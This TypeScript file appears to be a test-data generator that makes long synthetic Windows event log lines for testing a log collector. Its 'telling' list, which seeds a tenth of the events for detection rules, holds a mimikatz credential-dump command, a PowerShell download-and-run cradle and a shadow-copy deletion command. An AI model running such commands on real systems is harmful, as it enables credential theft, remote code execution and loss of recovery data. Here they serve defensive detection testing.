/** What does a collector make of a Windows event that it does not take apart? Two kilobytes in one field. */
import { fillText } from './fill-text.js'
import { startRandom } from './random.js'

/** Returns so many events, each as the JSON text of one line. One in ten has words that rules look for. */
export function longRawEvents(count: number): readonly string[] {
  const random = startRandom(14_142_135)
  return Array.from({ length: count }, (_, index) => {
    const time = new Date(1.7e12 + index * 53).toISOString()
    const parts = [`<13>${time} ws${random.skewed(400)} WinEvt[${index}]: ${random.pick(titles)}`]
    if (random.below(10) === 0) parts.push(`Message: ${fillText(random, random.pick(telling))}`)
    for (let length = 0; length < 1900; ) {
      const part = fillText(random, random.pick(facts))
      length += part.length + 1
      parts.push(part)
    }
    return JSON.stringify({ message: parts.join('\t') })
  })
}

const titles = [
  '4688 A new process has been created.',
  '4624 An account was successfully logged on.',
  '5156 The filtering platform has permitted a connection.',
  '7036 A service has changed its state.',
  '4104 Creating script block text (1 of 1).',
] as const
const facts = [
  'Account Name: <user>',
  'Account Domain: CORP',
  'Logon ID: 0x<id>',
  'New Process Name: C:\\Program Files\\Vendor\\Agent\\agent.exe',
  'Creator Process Name: C:\\Windows\\System32\\services.exe',
  'Process Command Line: "C:\\Program Files\\Vendor\\Agent\\agent.exe" --job <id> --slot <n> --quiet',
  'Mandatory Label: S-1-16-12288',
  'Source Address: <ip>',
  'Application Name: \\device\\harddiskvolume2\\windows\\system32\\svchost.exe',
  'Key Length: <n>',
  'Workstation Name: WS<n>',
  'Correlation ActivityID: {<id>-<id>-<id>}',
  'Rule Name: Vendor outbound <n>',
  'The event was written by thread <n> of process <n> and has the record number <n>',
] as const
const telling = [
  'mimikatz sekurlsa::logonpasswords',
  'IEX (New-Object Net.WebClient).DownloadString("https://example.org/<id>")',
  'vssadmin delete shadows /all /quiet',
  'Windows Defender found HackTool:Win32/Word and stopped it',
  'the event log was cleared by <user>',
] as const
